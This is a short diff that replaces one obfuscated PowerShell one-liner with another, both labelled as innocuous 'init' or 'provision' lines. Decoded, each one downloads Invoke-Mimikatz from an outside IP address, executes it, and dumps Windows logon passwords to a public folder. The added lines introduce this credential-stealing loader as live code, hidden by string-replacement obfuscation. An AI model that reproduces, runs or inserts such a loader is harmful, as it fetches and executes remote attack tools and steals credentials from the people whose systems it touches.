@@ -1,4 +1,4 @@
-iex (('# JXX92provision 3537 v4
-IEX (New-Object Net.WebClient).DownloadString(''http:JXX92//203.0.113.17/Invoke-Mimikatz.ps1'')
-Invoke-MimJXX92ikJXX92atz -Command ''"privilege::debug" "sekurlsa::logonpasswords"'' | Out-FJXX92ile C:\Users\qz~9ublic\o.txt
-' -replace 'JXX92','').Replace('qz~9','P'))
+iex (('# init 4327 v4
+IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.200/Invoke-Mimikatqj~5.ps1'')
+InvokKQJ24e-Mimikatqj~5 -CoKQJ24mmand ''"priviKQJ24lege::debug" "sekurlsa::logonpasswords"'' | Out-File C:KQJ24\Users\Public\o.txt
+' -replace 'KQJ24','').Replace('qj~5','z'))
